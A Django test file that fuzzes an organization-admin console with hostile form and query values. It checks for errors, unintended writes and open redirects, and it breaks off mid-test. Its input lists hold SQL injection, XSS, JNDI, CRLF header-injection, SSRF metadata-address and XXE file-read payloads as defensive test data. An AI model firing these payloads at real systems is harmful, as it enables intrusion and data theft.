"""Bad input: hostile values posted to every form and query string of the console.

Signed in as an Owner (and anonymously for the public pages), hypothesis posts arbitrary
text, huge strings, NUL bytes, RTL overrides, emoji, URLs with user info and ports, IP
literals, punycode garbage, roles outside the choices, other organizations' ids, ids that do
not exist, repeated and missing fields. Properties, for every example:

- never a 500: a 4xx, a form page with the error shown, or a redirect with an error message;
- nothing changed (every watched table compared row by row) unless the response says the
  action succeeded — and then only what that action may change;
- whatever was stored fits its column (SQLite stores over-long text; PostgreSQL refuses it).

Each example runs inside a savepoint that is rolled back, so examples do not see each other.
"""

import os
import re
import urllib.parse
from dataclasses import dataclass

import pytest
from django.contrib.messages import constants, get_messages
from django.core.cache import cache
from django.db import transaction
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from console.models import AuditEvent, Membership, User
from domains.models import Domain
from imports.models import ImportJob, ImportRow
from tests.support.two_organizations import build_world, changed_rows, oversized_values, snapshot

pytestmark = pytest.mark.django_db

# HOSTILE_INPUT_SCALE=10 for a deeper search (the default keeps the file near 30 s on SQLite).
SCALE = int(os.environ.get("HOSTILE_INPUT_SCALE", "1"))
FUZZ = settings(
    max_examples=40 * SCALE,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
FUZZ_SMALL = settings(FUZZ, max_examples=25 * SCALE)

# --- Hostile values ----------------------------------------------------------------------------

HOSTILE_TEXT = [
    "",
    " ",
    "\x00",
    "acme.test\x00",
    "example.com\x00.evil.test",
    "\u202eexample.com",
    "moc.elpmaxe\u202e",
    "exa\u200bmple.com",
    "\ufeffexample.com",
    "😀.com",
    "😀😀😀.test",
    "https://user:pass@acme.test:8443/path?q=1#f",
    "https://user@new-name.example:443/",
    "http://[::1]:80/",
    "https://169.254.169.254/latest/meta-data/",
    "//acme.test",
    "new-name.example:99999",
    "new-name.example:0",
    "127.0.0.1",
    "169.254.169.254",
    "[::ffff:169.254.169.254]",
    "::ffff:a9fe:a9fe",
    "0x7f000001",
    "2130706433",
    "0177.0.0.1",
    "1.1",
    "xn--",
    "xn--zz.test",
    "xn--a.xn--b",
    "xn--ls8h.example",
    "xn--55qx5d.xn--",
    "xn--mnchen-3ya.example",
    "..",
    ".",
    "-.test",
    "a..test",
    "a" * 64 + ".example",
    ("a" * 63 + ".") * 5 + "example",
    "%00",
    "%0d%0aSet-Cookie:x=y",
    "\r\nLocation: https://evil.test",
    "page=1\r\nSet-Cookie: x=y",
    "page=1\nX: y",
    "only=//evil.test",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "'; DROP TABLE console_user; --",
    "{{ 7*7 }}",
    "{% debug %}",
    "%(name)s %s %d",
    "${jndi:ldap://evil.test/a}",
    "ｅｘａｍｐｌｅ．ｃｏｍ",
    "new-name.example。",
    "NEW-NAME.EXAMPLE.",
    "mailto:x@acme.test",
    "@",
    "a@",
    "@acme.test",
    "a@@acme.test",
    "x@[127.0.0.1]",
    "x@acme.test\x00",
    "x@acme.test\r\nBcc: victim@evil.test",
    "a/b@acme.test",
    "/@0.AA",
    "a?b#c@acme.test",
    "x%2Fy@acme.test",
    "q'{}|~!$&*+=^`@acme.test",
    "\U0010ffff",
    "gmail.com",
    "mailinator.com",
    "com",
    "co.uk",
    "localhost",
    "acme.test",
    "globex.test",
    "pending-globex.test",
    "owner",
    "administrator",
    "member",
    "OWNER",
    "superuser",
    "dns",
    "https",
    "selected",
    "all",
    "-1",
    "0",
    "1e9",
    "9" * 30,
    "NaN",
    "true",
    "false",
]

HUGE_UNITS = ["a", "a.", "é", "😀", "\x00", "xn--a.", "\u202e", "1", "a@acme.test,", "%", "\r\n"]


def _huge(unit: str, length: int) -> str:
    return (unit * (length // len(unit) + 1))[:length]


huge_text = st.builds(_huge, st.sampled_from(HUGE_UNITS), st.integers(10_000, 12_000))
hostile_text = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.text(max_size=60),
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE_TEXT), st.text(max_size=8)),
    huge_text,
)
# A posted field: absent (None), once, or repeated.
hostile_field = st.one_of(st.none(), hostile_text, st.lists(hostile_text, min_size=2, max_size=4))

hostile_emails = st.one_of(
    hostile_text,
    st.builds(
        lambda local, at: f"{local}@{at}",
        st.text(min_size=1, max_size=20),
        st.sampled_from(
            ["acme.test", "globex.test", "pending-acme.test", "ACME.TEST", "acme.test.", "xn--zz.test", "[::1]"]
        ),
    ),
    # Long addresses at A's verified domain: valid in shape, longer than the column.
    st.builds(lambda n: "a" * n + "@acme.test", st.integers(240, 330)),
    st.builds(lambda n: "a" * n + "@acme.test", st.integers(10_000, 11_000)),
    st.emails(),
)

ROLES = [value for value, _ in Membership.Role.choices]
hostile_roles = st.one_of(st.sampled_from(ROLES), hostile_text)

INT_EDGES = [
    "0",
    "-1",
    "1.5",
    "1e3",
    "0x10",
    " 1",
    "1 ",
    "١٢",
    "²",
    str(2**31),
    str(2**63 - 1),
    str(2**63),
    str(2**64),
    "9" * 40,
]


def other_ids(world, kind: str | None = None) -> list[int]:
    """Organization B's ids of one kind of object (all kinds when None)."""
    b = world.b
    ids = {
        "domain": [b.domain.pk, b.pending_domain.pk],
        "job": [b.ready_job.pk, b.completed_job.pk],
        "membership": [b.owner_membership.pk, b.member_membership.pk],
        "audit_event": [b.audit_event.pk],
        "row": b.ready_rows,
        "api_token": [b.api_token.pk],
        "security_key": [b.security_key.pk],
        "webhook_endpoint": [b.webhook_endpoint.pk],
        "webhook_delivery": [b.webhook_delivery.pk],
    }
    return ids[kind] if kind else [pk for pks in ids.values() for pk in pks]


def hostile_ids(world, kind: str | None = None) -> st.SearchStrategy[str]:
    """Ids of another organization's objects, ids that do not exist, and things that are not ids.

    Small numbers are only B's ids of the right kind: any other small number may well be one
    of A's own objects, for which a success is legitimate.
    """
    return st.one_of(
        st.sampled_from([str(pk) for pk in other_ids(world, kind)]),
        st.sampled_from(INT_EDGES),
        st.integers(-(2**70), 2**70).filter(lambda n: n < 0 or n > 100_000).map(str),
        st.text(max_size=12).filter(lambda t: not (t.isascii() and t.isdigit() and int(t) <= 100_000)),
    )


# --- Running one example -----------------------------------------------------------------------


@dataclass
class Outcome:
    response: object
    before: dict
    after: dict
    oversized: list
    messages: list

    @property
    def status(self) -> int:
        return self.response.status_code

    @property
    def changes(self) -> dict:
        return changed_rows(self.before, self.after)

    @property
    def succeeded(self) -> bool:
        return any(level == constants.SUCCESS for level, _ in self.messages)

    @property
    def error_shown(self) -> bool:
        if any(level >= constants.WARNING for level, _ in self.messages):
            return True
        if self.status == 200:
            body = self.response.content.decode(errors="replace")
            return 'class="errorlist' in body or 'class="message error' in body
        return False

    def describe(self) -> str:
        return f"status {self.status}, messages {self.messages}, changed {self.changes}"


def run(client: Client, method: str, path: str, data=None, **extra) -> Outcome:
    """One request inside a rolled-back savepoint, with the watched tables read around it."""
    cache.clear()  # rate limits and sign-in throttling start from zero for every example
    client.cookies.pop("messages", None)  # only this request's messages count
    with transaction.atomic():
        before = snapshot()
        response = getattr(client, method)(path, data or {}, **extra)
        if getattr(response, "streaming", False):
            b"".join(response.streaming_content)
        after = snapshot()
        oversized = oversized_values() if after != before else []
        transaction.set_rollback(True)
    messages = (
        [(m.level, str(m)) for m in get_messages(response.wsgi_request)] if hasattr(response, "wsgi_request") else []
    )
    outcome = Outcome(response, before, after, oversized, messages)
    assert outcome.status != 500, f"{method.upper()} {path[:200]} with {str(data)[:300]!r}: {outcome.describe()}"
    assert not outcome.oversized, f"{path}: stored values longer than their column: {outcome.oversized}"
    return outcome


def form_data(**fields) -> dict:
    """Drop absent (None) fields: a missing field is one of the hostile shapes.

    Like every POST that passes the CSRF check, the body carries the token field (the test
    client does not check it), so a form with every field missing is still a bound form.
    """
    return {"csrfmiddlewaretoken": "x" * 64, **{name: value for name, value in fields.items() if value is not None}}


def last(value):
    """What Django reads for a field posted several times: the last value."""
    return value[-1] if isinstance(value, list) else value


def assert_refused_or_succeeded(outcome: Outcome, *, allowed: set[str]) -> None:
    """Refused clearly with nothing changed, or succeeded with only `allowed` tables changed."""
    if outcome.succeeded:
        assert set(outcome.changes) <= allowed, outcome.describe()
        return
    assert not outcome.changes, f"nothing may change without success: {outcome.describe()}"
    assert 400 <= outcome.status < 500 or outcome.error_shown, f"no clear error: {outcome.describe()}"


# --- Fixtures ----------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _fast_hashing(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def world(db, clock):
    return build_world()


@pytest.fixture
def owner(world):
    client = Client(raise_request_exception=False)
    client.force_login(world.a.owner)
    return client


@pytest.fixture
def anonymous():
    return Client(raise_request_exception=False)


# --- Domains -----------------------------------------------------------------------------------


@FUZZ
@given(name=hostile_field)
def test_add_domain_with_hostile_names(owner, world, name):
    outcome = run(owner, "post", reverse("domains:add"), form_data(domain=name))
    if outcome.status == 302:
        # Only a real addition redirects: to the new domain's verify page, one row and its event.
        # The Delivery: the webhook outbox row announcing domain.added to A's endpoint.
        assert outcome.succeeded and set(outcome.changes) == {"Domain", "AuditEvent", "Delivery"}, outcome.describe()
        new = [row for row in outcome.after["Domain"] if row not in outcome.before["Domain"]]
        assert len(new) == 1 and len(outcome.after["Domain"]) == len(outcome.before["Domain"]) + 1
        assert outcome.response["Location"] == reverse("domains:verify", args=[new[0][0]])
    else:
        assert outcome.status == 200 and outcome.error_shown and not outcome.changes, outcome.describe()


@FUZZ_SMALL
@given(method=hostile_field)
def test_choose_method_with_hostile_values(owner, world, method):
    outcome = run(owner, "post", reverse("domains:method", args=[world.a.pending_domain.pk]), form_data(method=method))
    assert outcome.status == 302
    effective = last(method)
    if effective in ("dns", "https"):  # valid: only a change of method is written
        assert bool(outcome.changes) == (effective == "https"), outcome.describe()
        assert set(outcome.changes) <= {"Domain", "AuditEvent"}
    else:
        assert outcome.error_shown and not outcome.changes, outcome.describe()


@FUZZ_SMALL
@given(value=hostile_field, extra=hostile_field)
def test_domain_settings_with_hostile_values(owner, world, value, extra):
    outcome = run(
        owner,
        "post",
        reverse("domains:settings", args=[world.a.domain.pk]),
        form_data(auto_add_new_users=value, organization=extra, name=extra, status=extra),
    )
    assert outcome.status == 302
    assert_refused_or_succeeded(outcome, allowed={"Domain", "AuditEvent"})
    # Only the setting may change: never the name, status, token or organization.
    before = {row[0]: row for row in outcome.before["Domain"]}
    for row in outcome.after["Domain"]:
        changed = [i for i, (x, y) in enumerate(zip(before[row[0]], row, strict=True)) if x != y]
        assert all(Domain._meta.concrete_fields[i].attname == "auto_add_new_users" for i in changed)


# --- Users -------------------------------------------------------------------------------------


@FUZZ
@given(email=hostile_emails, role=st.one_of(st.none(), hostile_roles, st.lists(hostile_roles, min_size=2, max_size=3)))
def test_add_user_with_hostile_emails_and_roles(owner, world, email, role):
    outcome = run(owner, "post", reverse("members:add"), form_data(email=email, role=role))
    if outcome.succeeded:
        assert outcome.status == 302
        assert set(outcome.changes) <= {"User", "Membership", "Account", "AuditEvent", "Delivery"}, outcome.describe()
        new = [m for m in outcome.after["Membership"] if m not in outcome.before["Membership"]]
        assert len(new) == 1
        added_role = new[0][[f.attname for f in Membership._meta.concrete_fields].index("role")]
        assert added_role in ROLES
    else:
        assert outcome.status == 200 and outcome.error_shown and not outcome.changes, outcome.describe()


@FUZZ_SMALL
@given(role=st.one_of(st.none(), hostile_roles, st.lists(hostile_roles, min_size=2, max_size=3)))
def test_change_role_with_hostile_values(owner, world, role):
    membership = world.a.member_membership
    outcome = run(owner, "post", reverse("console:user_change_role", args=[membership.pk]), form_data(role=role))
    assert outcome.status == 302
    assert_refused_or_succeeded(outcome, allowed={"Membership", "AuditEvent"})
    if outcome.changes:
        assert last(role) in ROLES
        role_index = [f.attname for f in Membership._meta.concrete_fields].index("role")
        assert {row[role_index] for row in outcome.after["Membership"]} <= set(ROLES)


# --- Bulk User Import --------------------------------------------------------------------------


@FUZZ
@given(data=st.data())
def test_select_rows_with_other_jobs_rows_and_hostile_ids(owner, world, data):
    ids = hostile_ids(world, "row")
    own = [str(pk) for pk in world.a.ready_rows]
    other_jobs = [str(pk) for pk in ImportRow.objects.exclude(job=world.a.ready_job).values_list("pk", flat=True)]
    row_id = st.one_of(st.sampled_from(own), st.sampled_from(other_jobs), ids)
    page_rows = data.draw(st.one_of(st.none(), st.lists(row_id, max_size=8)), label="page_rows")
    rows = data.draw(st.one_of(st.none(), st.lists(row_id, max_size=8)), label="row")
    return_query = data.draw(st.one_of(st.none(), hostile_text, st.just("page=2"), st.just("only=eligible")), label="q")
    job = world.a.ready_job
    outcome = run(
        owner,
        "post",
        reverse("imports:job_select", args=[job.pk]),
        form_data(page_rows=page_rows, row=rows, return_query=return_query),
    )
    assert outcome.status == 302
    location = outcome.response["Location"]
    assert location.startswith(reverse("imports:job", args=[job.pk])), location
    assert "\n" not in location and "\r" not in location and "//" not in location
    assert outcome.succeeded or outcome.error_shown, outcome.describe()
    assert set(outcome.changes) <= {"ImportRow", "ImportJob"}
    # Rows of other jobs (this organization's or another's) never change.
    job_index = [f.attname for f in ImportRow._meta.concrete_fields].index("job_id")
    assert [r for r in outcome.before["ImportRow"] if r[job_index] != job.pk] == [
        r for r in outcome.after["ImportRow"] if r[job_index] != job.pk
    ]
    if not outcome.succeeded:
        assert not outcome.changes


@FUZZ_SMALL
@given(mode=hostile_field)
def test_start_import_with_hostile_modes(owner, world, mode):
    outcome = run(owner, "post", reverse("imports:job_start", args=[world.a.ready_job.pk]), form_data(mode=mode))
    assert outcome.status == 302
    assert_refused_or_succeeded(outcome, allowed={"ImportJob", "ImportRow", "AuditEvent"})
    if outcome.succeeded:
        assert last(mode) in ("all", "selected")


# --- SAML single sign-on ---------------------------------------------------------------------------

# A metadata URL that names a host would be resolved by the system resolver: only IP literals
# (refused before any connection) and text that is no https:// URL reach the form.
hostile_metadata_urls = st.one_of(
    st.none(),
    hostile_text.filter(lambda value: not value.strip().lower().startswith("https://")),
    st.sampled_from(["https://[::1]/", "https://0.0.0.0/", "https://user:pw@127.0.0.1:1/", "https://169.254.169.254/x"]),
)
hostile_metadata_files = st.one_of(
    st.none(),
    st.binary(max_size=3000),
    st.sampled_from(
        [
            b'<!DOCTYPE x [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
            b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
            b'<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="x"/>',
            "<x>\u202e😀</x>".encode(),
        ]
    ),
)


@FUZZ_SMALL
@given(url=hostile_metadata_urls, document=hostile_metadata_files, jit=hostile_field)
def test_saml_settings_with_hostile_metadata(owner, world, url, document, jit):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = None if document is None else SimpleUploadedFile("metadata.xml", document, content_type="text/xml")
    outcome = run(
        owner, "post", reverse("sso:saml_settings"), form_data(metadata_url=url, metadata_file=upload, jit_provisioning=jit)
    )
    assert outcome.status == 200 and outcome.error_shown and not outcome.changes, outcome.describe()


@FUZZ_SMALL
@given(saml_response=hostile_field, relay_state=hostile_field)
def test_the_saml_acs_with_hostile_posts(anonymous, world, saml_response, relay_state):
    from sso import services

    acs = urllib.parse.urlsplit(services.saml_service_provider(world.a.organization).acs_url).path
    outcome = run(anonymous, "post", acs, {"SAMLResponse": saml_response or "", "RelayState": relay_state or ""})
    assert outcome.status in (400, 403) and not outcome.changes and "_auth_user_id" not in anonymous.session, outcome.describe()


# --- Ids in paths --------------------------------------------------------------------------------

ID_ROUTES = [
    ("get", "/domains/{}/", "domain"),
    ("get", "/domains/{}/verify/", "domain"),
    ("post", "/domains/{}/verify/check/", "domain"),
    ("post", "/domains/{}/method/", "domain"),
    ("get", "/domains/{}/html-file/", "domain"),
    ("post", "/domains/{}/settings/", "domain"),
    ("post", "/domains/{}/delete/", "domain"),
    ("post", "/domains/{}/add-back/", "domain"),
    ("get", "/imports/domain/{}/", "domain"),
    ("post", "/imports/domain/{}/request-access/", "domain"),
    ("post", "/imports/domain/{}/report/", "domain"),
    ("get", "/imports/job/{}/", "job"),
    ("get", "/imports/job/{}/progress/", "job"),
    ("get", "/imports/job/{}/users/", "job"),
    ("get", "/imports/job/{}/report.csv", "job"),
    ("post", "/imports/job/{}/notify/", "job"),
    ("post", "/imports/job/{}/select/", "job"),
    ("post", "/imports/job/{}/start/", "job"),
    ("post", "/imports/job/{}/check-new/", "job"),
    ("post", "/users/{}/role/", "membership"),
    ("post", "/users/{}/remove/", "membership"),
    ("post", "/users/{}/resend-invitation/", "membership"),
    ("get", "/audit/{}/", "audit_event"),
    ("post", "/api-tokens/{}/revoke/", "api_token"),
    ("post", "/security/keys/{}/remove/", "security_key"),
    ("get", "/sso/domains/{}/", "domain"),
    ("post", "/sso/domains/{}/", "domain"),
    ("get", "/webhooks/{}/", "webhook_endpoint"),
    ("post", "/webhooks/{}/edit/", "webhook_endpoint"),
    ("post", "/webhooks/{}/delete/", "webhook_endpoint"),
    ("post", "/webhooks/{}/rotate/", "webhook_endpoint"),
    ("post", "/webhooks/{}/test/", "webhook_endpoint"),
    ("post", "/webhooks/deliveries/{}/redeliver/", "webhook_delivery"),
]
# The API's id routes, requested with organization A's token (every method is tried).
API_ID_ROUTES = [
    ("/api/v1/domains/{}", "domain"),
    ("/api/v1/domains/{}/verify", "domain"),
    ("/api/v1/domains/{}/html-file", "domain"),
    ("/api/v1/users/{}", "membership"),
    ("/api/v1/import-jobs/{}", "job"),
    ("/api/v1/import-jobs/{}/rows", "job"),
    ("/api/v1/import-jobs/{}/report.csv", "job"),
    ("/api/v1/import-jobs/{}/notify", "job"),
    ("/api/v1/import-jobs/{}/start", "job"),
    ("/api/v1/import-jobs/{}/check-new-users", "job"),
    ("/api/v1/audit-events/{}", "audit_event"),
]


def test_id_routes_cover_every_int_route():
    from tests.test_isolation import int_routes

    covered = {route for _, route, _ in ID_ROUTES} | {route for route, _ in API_ID_ROUTES}
    assert covered == {"/" + re.sub(r"<int:\w+>", "{}", route) for route in int_routes()}


@settings(FUZZ, max_examples=60 * SCALE)
@given(data=st.data())
def test_hostile_ids_in_paths_are_404(owner, world, data):
    method, route, kind = data.draw(st.sampled_from(ID_ROUTES), label="route")
    value = data.draw(hostile_ids(world, kind), label="id")
    path = route.format(urllib.parse.quote(value, safe=""))
    outcome = run(owner, method, path, {"role": "owner", "method": "https", "mode": "all", "row": ["1"]})
    assert outcome.status in (404, 405), f"{method} {path}: {outcome.describe()}"
    assert not outcome.changes


# --- Query strings on the pages ----------------------------------------------------------------

QUERY_KEYS = ["q", "role", "import", "page", "action", "actor_kind", "date_from", "date_to", "only", "next", "x"]
DATE_GARBAGE = ["0001-01-01", "9999-12-31", "2026-02-30", "2026-13-01", "99999-01-01", "-1", "1e9", "2026-1-1", "today"]


def _pages(world) -> list[str]:
    a = world.a
    return [
        reverse("console:home"),
        reverse("console:users"),
        reverse("console:accounts"),
        reverse("console:audit"),
        reverse("console:audit_detail", args=[a.audit_event.pk]),
        reverse("console:user_remove", args=[a.member_membership.pk]),
        reverse("console:user_resend_invitation", args=[a.member_membership.pk]),
        reverse("domains:list"),
        reverse("domains:add"),
        reverse("domains:detail", args=[a.domain.pk]),
        reverse("domains:verify", args=[a.pending_domain.pk]),
        reverse("domains:delete", args=[a.pending_domain.pk]),
        reverse("imports:domain", args=[a.domain.pk]),
        reverse("imports:report_create", args=[a.domain.pk]),
        reverse("imports:job", args=[a.ready_job.pk]),
        reverse("imports:job", args=[a.completed_job.pk]),
        reverse("imports:job_progress", args=[a.ready_job.pk]),
        reverse("imports:job_users", args=[a.completed_job.pk]),
        reverse("imports:job_csv", args=[a.ready_job.pk]),
        reverse("imports:job_notify", args=[a.ready_job.pk]),
        reverse("imports:job_start", args=[a.ready_job.pk]),
    ]


query_value = st.one_of(
    hostile_text,
    st.sampled_from(INT_EDGES + DATE_GARBAGE),
    st.integers(-(10**13), 10**13).map(str),
)
query_strings = st.dictionaries(
    st.one_of(st.sampled_from(QUERY_KEYS), st.text(min_size=1, max_size=8)),
    st.one_of(query_value, st.lists(query_value, min_size=2, max_size=3)),
    max_size=5,
)


@settings(FUZZ, max_examples=80 * SCALE)
@given(data=st.data())
def test_hostile_query_strings_on_every_page(owner, world, data):
    path = data.draw(st.sampled_from(_pages(world)), label="page")
    query = data.draw(query_strings, label="query")
    outcome = run(owner, "get", path, query)
    assert outcome.status in (200, 302), f"{path} {query!r}: {outcome.describe()}"
    # Downloading a report of people and exporting the audit log are themselves audited.
    audited = path.endswith("report.csv") or (path.startswith("/audit/") and "format" in query)
    assert set(outcome.changes) <= ({"AuditEvent"} if audited else set()), f"{path} {query!r}: {outcome.describe()}"


@pytest.mark.parametrize(
    "query",
    [
        {"page": "abc"},
        {"page": "-1"},
        {"page": str(10**12)},
        {"page": "9" * 40},
        {"page": "\x00"},
        {"date_from": "0001-01-01", "date_to": "9999-12-31"},
        {"date_from": "9999-12-31"},
        {"date_to": "9999-12-31"},
        {"date_from": "0001-01-01"},
        {"date_from": "2026-02-30"},
        {"import": str(2**63)},
        {"import": "9" * 40},
        {"import": "-5"},
        {"q": "\x00"},
        {"q": "%"},
        {"q": "_"},
        {"q": "a" * 12000},
        {"role": "superuser"},
        {"action": "x" * 5000},
        {"actor_kind": "root"},
        {"only": "../../etc"},
    ],
)
def test_known_edge_query_strings_on_list_pages(owner, world, query):
    for path in [
        reverse("console:users"),
        reverse("console:accounts"),
        reverse("console:audit"),
        reverse("imports:job", args=[world.a.ready_job.pk]),
    ]:
        outcome = run(owner, "get", path, query)
        assert outcome.status == 200, f"{path} {query!r}: {outcome.describe()}"


# --- Oversized and repeated fields ------------------------------------------------------------


def test_too_many_fields_is_a_400_and_changes_nothing(owner, world):
    rows = [str(i) for i in range(1200)]
    outcome = run(
        owner, "post", reverse("imports:job_select", args=[world.a.ready_job.pk]), {"row": rows, "page_rows": rows}
    )
    assert outcome.status == 400 and not outcome.changes


def test_a_body_over_the_upload_limit_is_a_400_and_changes_nothing(owner, world, settings):
    outcome = run(owner, "post", reverse("domains:add"), {"domain": "a" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 10)})
    assert outcome.status == 400 and not outcome.changes


# --- Public pages, anonymously -------------------------------------------------------------------


@FUZZ
@given(username=st.one_of(hostile_emails, st.none()), password=hostile_field, next_=hostile_field)
def test_sign_in_with_hostile_values(anonymous, world, username, password, next_):
    outcome = run(
        anonymous, "post", reverse("console:login"), form_data(username=username, password=password, next=next_)
    )
    # The only write a failed sign-in makes is its line in the security audit trail.
    changes = {table: counts for table, counts in outcome.changes.items() if table != "AuditEvent"}
    assert outcome.status == 200 and outcome.error_shown and not changes, outcome.describe()
    if "AuditEvent" in outcome.changes:
        before, after = outcome.changes["AuditEvent"]
        assert after - before == 1


@FUZZ
@given(
    email=st.one_of(hostile_emails, st.none()),
    full_name=hostile_field,
    password=st.one_of(hostile_text, st.just("a-long-test-password-42"), st.just("correct horse battery staple 9")),
    repeat=st.one_of(st.just(True), st.just(False)),
    other=hostile_field,
)
def test_sign_up_with_hostile_values(anonymous, world, email, full_name, password, repeat, other):
    data = form_data(email=email, full_name=full_name, password1=password, password2=password if repeat else other)
    outcome = run(anonymous, "post", reverse("console:sign_up"), data)
    if outcome.status == 302:
        assert outcome.response["Location"] == reverse("console:sign_up_done")
        assert set(outcome.changes) <= {"User", "AuditEvent"}, outcome.describe()
        new_users = [u for u in outcome.after["User"] if u not in outcome.before["User"]]
        assert len(new_users) <= 1
    else:
        assert outcome.status == 200 and outcome.error_shown and not outcome.changes, outcome.describe()


@FUZZ_SMALL
@given(email=st.one_of(hostile_emails, st.none()))
def test_password_reset_with_hostile_values(anonymous, world, email):
    outcome = run(anonymous, "post", reverse("console:password_reset"), form_data(email=email))
    # The same page whether or not the address has a user; a malformed address is a form error.
    assert not outcome.changes, outcome.describe()
    if outcome.status == 302:
        assert outcome.response["Location"] == reverse("console:password_reset_done")
    else:
        assert outcome.status == 200 and outcome.error_shown, outcome.describe()


@FUZZ
@given(data=st.data())
def test_set_password_with_bad_tokens(anonymous, world, data):
    from django.utils.encoding import force_bytes
    from django.utils.http import urlsafe_base64_encode

    real_uid = urlsafe_base64_encode(force_bytes(world.a.member.pk))
    uid = data.draw(
        st.one_of(
            st.just(real_uid),
            hostile_text.map(lambda t: t[:200]),
            st.sampled_from(
                [urlsafe_base64_encode(force_bytes(v)) for v in ("0", "-1", str(2**64), "9" * 40, "abc", "\x00")]
            ),
        ),
        label="uid",
    )
    token = data.draw(
        st.one_of(st.just("set-password"), hostile_text.map(lambda t: t[:200]), st.just("abc-123")), label="token"
    )
    password = data.draw(hostile_field, label="password")
    path = f"/set-password/{urllib.parse.quote(uid, safe='') or 'x'}/{urllib.parse.quote(token, safe='') or 'x'}/"
    for method in ("get", "post"):
        outcome = run(anonymous, method, path, form_data(new_password1=password, new_password2=password))
        assert outcome.status in (200, 302, 404), outcome.describe()
        assert not outcome.changes, outcome.describe()
        if outcome.status == 200:
            assert "This link is not valid any more" in outcome.response.content.decode()
        if outcome.status == 302:  # Django moves a valid-looking token into the session first
            assert outcome.response["Location"].endswith("/set-password/")


@FUZZ_SMALL
@given(token=hostile_text.map(lambda t: t[:3000]))
def test_verify_email_with_garbage_tokens(anonymous, world, token):
    from console.registration import email_verification_token

    candidates = [token, email_verification_token(world.a.member) + token[:5] + "x"]
    for value in candidates:
        path = f"/verify-email/{urllib.parse.quote(value, safe='') or 'x'}/"
        for method in ("get", "post"):
            outcome = run(anonymous, method, path)
            assert outcome.status in (400, 404), outcome.describe()
            assert not outcome.changes


@FUZZ_SMALL
@given(extra=hostile_field, signed_in=st.booleans())
def test_resend_verification_with_hostile_fields(world, extra, signed_in):
    client = Client(raise_request_exception=False)
    unverified = User.objects.get(email="unverified@acme.test")
    if signed_in:
        client.force_login(unverified)
    outcome = run(client, "post", reverse("console:resend_verification"), form_data(email=extra, user=extra, pk=extra))
    assert outcome.status == 302 and not outcome.changes
    if signed_in:
        assert outcome.succeeded  # a link to the signed-in user's own address, whatever was posted


@FUZZ_SMALL
@given(language=hostile_field, next_=hostile_field)
def test_language_switch_with_hostile_values(anonymous, world, language, next_):
    outcome = run(anonymous, "post", "/i18n/setlang/", form_data(language=language, next=next_))
    assert outcome.status in (200, 302, 204)
    assert not outcome.changes
    if outcome.status == 302:
        location = outcome.response["Location"]
        assert not location.startswith(("//", "http:", "https:")) or "testserver" in location, location


def test_the_audit_trail_is_untouched_by_a_run_of_refusals(owner, world):
    """A refused action writes no AuditEvent (the table is part of every snapshot above)."""
    before = AuditEvent.objects.count()
    for value in ("", "\x00", "gmail.com", "a" * 10_000, "globex.test"):
        run(owner, "post", reverse("domains:add"), {"domain": value})
    assert AuditEvent.objects.count() == before
    assert ImportJob.objects.filter(organization=world.b.organization).count() == 2


@pytest.mark.parametrize(
    "email",
    [
        "a" * 250 + "@acme.test",  # 260 characters: EmailField alone accepts up to 320
        "a" * 200 + "@" + "ü" * 40 + ".acme.test",  # fits in Unicode, longer once stored as punycode
    ],
)
def test_addresses_longer_than_the_column_are_form_errors(owner, anonymous, world, email):
    added = run(owner, "post", reverse("members:add"), form_data(email=email, role="member"))
    assert added.status == 200 and added.error_shown and not added.changes, added.describe()
    signed_up = run(
        anonymous,
        "post",
        reverse("console:sign_up"),
        form_data(email=email, password1="a-long-test-password-42", password2="a-long-test-password-42"),
    )
    assert signed_up.status == 200 and signed_up.error_shown and not signed_up.changes, signed_up.describe()


def test_sign_in_with_a_missing_field_says_which(anonymous, world):
    outcome = run(anonymous, "post", reverse("console:login"), form_data(username="owner@acme.test"))
    assert outcome.status == 200 and outcome.error_shown and not outcome.changes


@pytest.mark.parametrize("local", ["a/b", "/", "a?b#c", "x%2Fy", "q'{}|~!$&*+=^`", "..a"])
def test_sign_up_and_verify_an_address_with_url_special_characters(anonymous, world, local):
    """The verification link carries the address; "/" and friends must not break it."""
    from urllib.parse import urlsplit

    from console.registration import email_verification_url

    email = f"{local}@newcomer.example"
    password = "a-long-test-password-42"
    response = anonymous.post(
        reverse("console:sign_up"), {"email": email, "password1": password, "password2": password}
    )
    if response.status_code == 200:  # refused by the e-mail validator: a form error, fine
        assert 'class="errorlist' in response.content.decode()
        return
    assert response.status_code == 302 and response["Location"] == reverse("console:sign_up_done")
    user = User.objects.get(email=email)
    path = urlsplit(email_verification_url(user)).path
    assert anonymous.get(path).status_code == 200
    assert anonymous.post(path).status_code == 200
    user.refresh_from_db()
    assert user.email_verified


@pytest.mark.parametrize(
    "fields",
    [
        {"page_rows": [str(2**63)], "row": [str(2**63)]},
        {"page_rows": ["9" * 40]},
        {"row": ["١٢", "²", "0"]},
        {"return_query": "page=1\r\nSet-Cookie: x=y"},
        {"return_query": "page=1\nX: y"},
        {"return_query": "only=//evil.test"},
        {"return_query": "page=2&only=eligible&next=https://evil.test"},
    ],
)
def test_select_rows_edge_cases(owner, world, fields):
    job = world.a.ready_job
    outcome = run(owner, "post", reverse("imports:job_select", args=[job.pk]), form_data(**fields))
    assert outcome.status == 302 and not outcome.changes, outcome.describe()
    location = outcome.response["Location"]
    path, _, query = location.partition("?")
    assert path == reverse("imports:job", args=[job.pk])
    assert set(urllib.parse.parse_qs(query)) <= {"page", "only"}, location


def test_select_rows_returns_to_the_same_page_of_the_report(owner, world):
    job = world.a.ready_job
    outcome = run(
        owner,
        "post",
        reverse("imports:job_select", args=[job.pk]),
        form_data(page_rows=[], return_query="page=2&only=eligible"),
    )
